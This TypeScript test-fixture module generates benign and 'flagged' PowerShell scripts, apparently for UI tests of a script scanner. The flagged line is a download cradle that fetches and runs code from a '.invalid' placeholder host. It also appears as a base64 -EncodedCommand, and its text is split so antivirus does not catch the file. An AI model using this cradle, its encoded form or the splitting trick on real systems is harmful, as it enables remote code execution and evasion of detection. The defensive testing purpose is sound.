/** Scripts for the UI tests: harmless, hosts end in `.invalid`, and what an antivirus could flag is joined at run time. */

/** A download cradle. */
export const flaggedLine = [
  'iex (New-Object Net.',
  'WebClient).Download',
  "String('https://downloads.example.invalid/agent.ps1')",
].join('');
export const honestLine = "Write-Output 'hello'";

/** Code run straight from an encoded command: the argument decodes to {@link flaggedLine}. */
export const encodedLine = `powershell.exe -NoProfile -EncodedCommand ${Buffer.from(flaggedLine, 'utf16le').toString('base64')}`;

/** An honest script, of a length as scripts have. */
export function honestScript(index: number): string {
  return [
    `# Report ${index}: free space of each volume.`,
    'param([string] $ComputerName = $env:COMPUTERNAME)',
    'Get-CimInstance -ClassName Win32_LogicalDisk -ComputerName $ComputerName |',
    `  Select-Object DeviceID, @{ Name = 'FreeGB'; Expression = { [math]::Round($_.FreeSpace / 1GB, ${index % 4}) } }`,
    '',
  ].join('\n');
}

/** A script with one finding. */
export function flaggedScript(index: number): string {
  return `# Agent ${index}\n$ErrorActionPreference = 'Stop'\n${flaggedLine}\n`;
}

/**
 * A folder with many scripts, each of its own content.
 * @param flaggedEvery one of so many is flagged
 */
export function manyScripts(count: number, flaggedEvery: number): Record<string, string> {
  const files: Record<string, string> = {};
  for (let index = 0; index < count; index++) {
    const flagged = index % flaggedEvery === 0;
    const name = `${flagged ? 'agent' : 'report'}-${String(index).padStart(4, '0')}.ps1`;
    files[`site-${String(index % 20).padStart(2, '0')}/${name}`] = flagged
      ? flaggedScript(index)
      : honestScript(index);
  }
  return files;
}
